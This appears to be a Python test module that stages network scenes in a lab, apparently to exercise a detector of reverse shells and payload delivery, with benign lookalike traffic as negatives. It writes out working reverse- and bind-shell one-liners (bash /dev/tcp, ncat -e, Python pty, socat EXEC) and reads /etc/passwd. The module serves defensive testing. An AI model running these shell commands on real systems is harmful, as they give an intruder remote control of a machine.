"""A machine obeys somebody at the other end; or sends text, shows a console, fetches an update.

Shells, netcat, ncat and socat are the real ones. What is for Windows, or is part of an attack kit
that no Debian has, is played by ``tests.lab.programs.orders``, which says what they say.
"""

import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from importlib.util import find_spec
from pathlib import Path
from shlex import join

from tests.lab.cast import STRANGER
from tests.lab.practice import Practice
from tests.lab.scenes import work
from tests.lab.scenes.scene import Scene

_PORT = 4444
_CALLED = "accueil"
"""What the machine that obeys is called in its prompt: not as this one."""
_ORDERS = ("id", "cd /tmp", "head -n 1 /etc/passwd", "id")
_PROGRAM_SEEN = 300
"""Octets of each packet that are recorded where programs pass."""
_TRANSCRIPT = (
    "Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved."
    "\r\n\r\nC:\\Temp>ping nas\r\n\r\nC:\\Temp>"
)


def bash_calls_outside(practice: Practice) -> None:
    """Bash itself opens the conversation, as every list of such lines begins."""
    with _master(practice, "internet"):
        _obey(practice, "reception", f"bash -i >& /dev/tcp/{STRANGER}/{_PORT} 0>&1")


def ncat_without_a_prompt(practice: Practice) -> None:
    """A shell that is given away by its answers alone, to a machine inside."""
    practice.plug("attacker")
    with _master(practice, "attacker"):
        _obey(practice, "nas", f"ncat {practice.hosts['attacker'].ip} {_PORT} -e /bin/sh")


def python_with_a_terminal(practice: Practice) -> None:
    """Python gives the shell a terminal, so that it writes prompts and repeats what is typed."""
    code = (
        f"import socket,os,pty;s=socket.create_connection(('{STRANGER}',{_PORT}));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"
    )
    with _master(practice, "internet"):
        _obey(practice, "imaging", join(["/usr/bin/python3", "-c", code]))


def socat_waits_for_callers(practice: Practice) -> None:
    """A shell that listens: the intruder calls."""
    practice.plug("attacker")
    argv = _shell(f"socat TCP-LISTEN:{_PORT},reuseaddr EXEC:'bash -i',stderr")
    with practice.running("nas", argv):
        practice.await_ports("nas", _PORT)
        orders = _said(_ORDERS) + f" | nc.openbsd -q 1 {practice.hosts['nas'].ip} {_PORT}"
        practice.run("attacker", ["sh", "-c", orders], timeout=20)


def windows_calls_outside(practice: Practice) -> None:
    """What cmd.exe and PowerShell say, replayed."""
    for kind in ("cmd", "powershell"):
        with _master(practice, "internet"):
            _play(practice, "surgery", "obey", STRANGER, str(_PORT), kind)


def program_behind_its_length(practice: Practice) -> None:
    """A program comes unasked, and then orders; it is a harmless one."""
    with _playing(practice, "internet", "send", str(_PORT), _program()):
        _play(practice, "reception", "load", STRANGER, str(_PORT))


def program_that_loads_itself(practice: Practice) -> None:
    """The same, with the first bytes that Metasploit gives it, from inside."""
    practice.plug("attacker")
    with _playing(practice, "attacker", "send", str(_PORT), _program(), "loader"):
        _play(practice, "surgery", "load", practice.hosts["attacker"].ip, str(_PORT))


def ordinary_work(practice: Practice) -> None:
    """Pages, files, images, and a letter on the printer."""
    work.browse(practice, "reception", *work.SITES)
    work.use_share(practice, "surgery")
    work.take_image(practice)


def files_by_netcat(practice: Practice) -> None:
    """The technician copies what a window said, and a program, and prints the first."""
    text = practice.folder / "window.txt"
    text.write_text(_TRANSCRIPT)
    for name, to, port in (
        (str(text), "nas", 9999),
        (_program(), "nas", 9999),
        (str(text), "printer", 9101),
    ):
        taken = ["sh", "-c", f"nc.openbsd -l -p {port} >/dev/null"]
        with practice.running(to, taken):
            practice.await_ports(to, port)
            send = f"nc.openbsd -q 1 {practice.hosts[to].ip} {port} < {name}"
            practice.run("reception", ["sh", "-c", send], check=True)


def console_by_telnet(practice: Practice) -> None:
    """A device shows its console to whoever calls telnet's port."""
    with practice.running(
        "nas", _shell("socat TCP-LISTEN:23,reuseaddr EXEC:bash,pty,stderr,setsid")
    ):
        practice.await_ports("nas", 23)
        orders = _said(_ORDERS) + f" | nc.openbsd -q 1 {practice.hosts['nas'].ip} 23"
        practice.run("reception", ["sh", "-c", orders], timeout=20)


def server_of_updates(practice: Practice) -> None:
    """The practice's own program fetches its next version from the server, and installs it."""
    for who in ("reception", "surgery"):
        with _playing(practice, "nas", "update", str(_PORT), _program()):
            _play(practice, who, "ask", practice.hosts["nas"].ip, str(_PORT))


def chat_of_technicians(practice: Practice) -> None:
    """Two people write each other what they type elsewhere."""
    lines = ("salut", "tape: root@nas:/# id", "uid=1000(moi) gid=1000(moi)", "merci, $ ")
    with _master(practice, "nas", ("bonjour", "alors ?", "ok")):
        talk = _said(lines) + f" | nc.openbsd -q 1 {practice.hosts['nas'].ip} {_PORT}"
        practice.run("reception", ["sh", "-c", talk], timeout=20)


@contextmanager
def _master(practice: Practice, who: str, orders: Sequence[str] = _ORDERS) -> Iterator[None]:
    listening = f"{_said(orders)} | nc.openbsd -l -q 1 -p {_PORT}"
    with practice.running(who, ["sh", "-c", listening]):
        practice.await_ports(who, _PORT)
        yield


def _said(lines: Sequence[str]) -> str:
    """Give a command that writes *lines*, each after a pause as people make them."""
    return "(" + "".join(f"sleep 1.2; echo {join([line])}; " for line in lines) + "sleep 1)"


def _obey(practice: Practice, who: str, line: str) -> None:
    practice.run(who, ["timeout", "12", *_shell(line)], timeout=20)


def _shell(line: str) -> list[str]:
    """Give a command that runs *line* in bash, in a machine of another name, at its root."""
    clean = "env -i PATH=/usr/bin:/bin HOME=/ TERM=dumb"
    inside = f"hostname {_CALLED}; cd /; exec {clean} bash -c {join([line])}"
    return ["unshare", "--uts", "sh", "-c", inside]


def _play(practice: Practice, who: str, *how: str) -> None:
    practice.run(who, [sys.executable, "-m", "tests.lab.programs.orders", *how], timeout=20)


@contextmanager
def _playing(practice: Practice, who: str, *how: str) -> Iterator[None]:
    with practice.running(who, [sys.executable, "-m", "tests.lab.programs.orders", *how]):
        practice.await_ports(who, _PORT)
        yield


def _program() -> str:
    """Give a program for Windows that starts scripts: part of Python's setuptools."""
    found = find_spec("setuptools")
    assert found
    assert found.origin
    return str(Path(found.origin).with_name("cli-64.exe"))


SCENES = {
    "bash_calls_outside": Scene(play=bash_calls_outside),
    "ncat_without_a_prompt": Scene(play=ncat_without_a_prompt),
    "python_with_a_terminal": Scene(play=python_with_a_terminal),
    "socat_waits_for_callers": Scene(play=socat_waits_for_callers),
    "windows_calls_outside": Scene(play=windows_calls_outside),
    "program_behind_its_length": Scene(play=program_behind_its_length, snaplen=_PROGRAM_SEEN),
    "program_that_loads_itself": Scene(play=program_that_loads_itself, snaplen=_PROGRAM_SEEN),
    "ordinary_work": Scene(play=ordinary_work),
    "lookalike_files_by_netcat": Scene(play=files_by_netcat, snaplen=_PROGRAM_SEEN),
    "lookalike_console_by_telnet": Scene(play=console_by_telnet),
    "lookalike_server_of_updates": Scene(play=server_of_updates, snaplen=_PROGRAM_SEEN),
    "lookalike_chat_of_technicians": Scene(play=chat_of_technicians),
}
